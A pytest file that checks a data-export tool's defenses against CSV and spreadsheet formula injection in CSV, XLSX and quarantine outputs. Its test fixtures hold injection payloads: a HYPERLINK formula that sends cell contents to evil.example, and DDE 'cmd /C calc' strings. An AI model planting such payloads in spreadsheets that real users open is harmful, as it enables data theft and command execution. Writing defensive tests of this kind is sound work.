"""Text from input files (area names, indicator names, notes, quarantined raw rows) that a
spreadsheet would run as a formula is written inert: a leading ``'`` in CSV (OWASP's advice on
CSV injection), a text cell in XLSX, never a live formula. Numbers, negative ones included, are
written unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from jsna.vocabulary.cells import is_formula_like, safe_cell, safe_frame
from jsna.vocabulary.sections import SECTIONS
from jsna.vocabulary.tables import RESULT_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _results() -> pd.DataFrame:
    """One result row per hostile text, carried in the text columns a user's files can fill."""
    rows = []
    for number, text in enumerate(HOSTILE):
        row: dict[str, object] = dict.fromkeys(RESULT_COLUMNS)
        row.update(
            indicator_id=f"local-{number}",
            indicator_name=text,
            area_code="E06999001",
            area_name=text,
            area_type="UA",
            sex="Persons",
            age="All ages",
            category_type=text,
            category=text,
            period="2024",
            value=-3.5,
            lower_ci_95=-4.25,
            upper_ci_95=-2.0,
            count=12.0,
            denominator=1000.0,
            value_note=text,
            method="Crude rate",
        )
        rows.append(row)
    frame = pd.DataFrame(rows)
    frame["section"] = SECTIONS[0].id
    return frame


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3.5, -1, 0, 2.5, "-3.5", "+2", "-1e-05", "Trafford", "", None])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_frame_leaves_numeric_columns_alone() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "ok"], "value": [-3.5, 2.0], "n": [-1, 3]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "ok"]
    pd.testing.assert_series_equal(out["value"], frame["value"])
    pd.testing.assert_series_equal(out["n"], frame["n"])
    assert frame["name"].tolist() == ["=1+1", "ok"]  # the input is not changed


def _as_csv(text: str) -> str:
    """How a hostile text reads back from jsna's CSV: quoted, and a lone CR as a line feed."""
    return "'" + text.replace("\r", "\n")


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _no_live_text(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not is_formula_like(cell), (column, cell)


def test_csv_export(tmp_path: Path) -> None:
    from jsna.export import write_export

    path = write_export(_results(), tmp_path / "results.csv", "csv", metadata={})
    rows = _cells(path.read_bytes().decode("utf-8"))
    _no_live_text(rows)
    assert [r["Indicator Name"] for r in rows] == [_as_csv(t) for t in HOSTILE]
    assert {r["Value"] for r in rows} == {"-3.5"}
    assert {r["Lower CI 95.0 limit"] for r in rows} == {"-4.25"}


def test_csv_analysis_tables(tmp_path: Path) -> None:
    from jsna.export import write_analysis_files

    table = pd.DataFrame({"group": HOSTILE, "gap": [-1.5] * len(HOSTILE)})
    folder = write_analysis_files({"analysis_gap": table}, tmp_path / "a", "csv")
    rows = _cells((folder / "analysis_gap.csv").read_bytes().decode("utf-8"))
    _no_live_text(rows)
    assert {r["gap"] for r in rows} == {"-1.5"}


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from jsna.export import write_export

    analyses = {"analysis_gap": pd.DataFrame({"group": HOSTILE, "gap": [-1.5] * len(HOSTILE)})}
    path = write_export(
        _results(),
        tmp_path / "results.xlsx",
        "xlsx",
        metadata={"title": '=HYPERLINK("http://evil.example")', "area": "=1+1"},
        analyses=analyses,
    )
    book = load_workbook(path)
    seen = set()
    numbers = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    # the text itself, as text (XML reads a carriage return back as a line feed)
    assert {t.replace("\r", "\n") for t in HOSTILE} <= {t.replace("\r", "\n") for t in seen}
    assert -3.5 in numbers and -4.25 in numbers and -1.5 in numbers


def test_embedded_report_csv() -> None:
    from jsna.report.disclosure import DEFAULT_POLICY, results_csv_text

    rows = _cells(results_csv_text(_results(), DEFAULT_POLICY))
    _no_live_text(rows)
    assert {r["value"] for r in rows} == {"-3.5"}
    assert [r["area_name"] for r in rows] == [_as_csv(t) for t in HOSTILE]


def test_quarantine_export(project: Path, cli) -> None:  # type: ignore[no-untyped-def]
    bad = project / "inputs" / "bad.csv"
    bad.write_text(
        "area_code,area_name,period,sex,age,population\n"
        "E06999001,A,2021,Male,0,10\n"
        'E06999001,A,2021,Male,1,"=HYPERLINK(""http://evil.example"")"\n',
        encoding="utf-8",
    )
    code, out, err = cli("ingest", "population", bad, "--skip-invalid-rows", cwd=project)
    assert code in (0, 1), out + err
    target = project / "quarantine.csv"
    code, out, err = cli("quarantine", "export", target, cwd=project)
    assert code == 0, out + err
    rows = _cells(target.read_bytes().decode("utf-8"))
    assert rows, "the bad row was quarantined"
    _no_live_text(rows)


def test_xlsx_sheet_names_cut_to_31_characters_stay_unique(tmp_path: Path) -> None:
    """Two analysis tables alike in their first 31 characters, and one that Excel would take
    for the contents sheet (sheet names are compared without case), each get a sheet of
    their own, named as the contents sheet lists them."""
    from openpyxl import load_workbook

    from jsna.export import write_export

    long = "analysis_inequality_by_deprivation_decile"
    analyses = {f"{long}_{n}": pd.DataFrame({"table": [f"{long}_{n}"], "n": [n]}) for n in range(3)}
    analyses["CONTENTS"] = pd.DataFrame({"table": ["CONTENTS"], "n": [9]})
    path = write_export(_results(), tmp_path / "r.xlsx", "xlsx", metadata={}, analyses=analyses)
    book = load_workbook(path)
    names = book.sheetnames
    assert len({n.casefold() for n in names}) == len(names) == 1 + 10 + len(analyses)
    assert all(len(n) <= 31 for n in names)
    listed = [row[0] for row in book["Contents"].iter_rows(values_only=True) if row]
    tail = names[-len(analyses) :]
    assert tail == [long[:31], f"{long[:27]} (2)", f"{long[:27]} (3)", "CONTENTS (2)"]
    assert set(tail) <= set(listed)
    for name, table in zip(tail, analyses, strict=True):
        assert book[name]["A2"].value == table
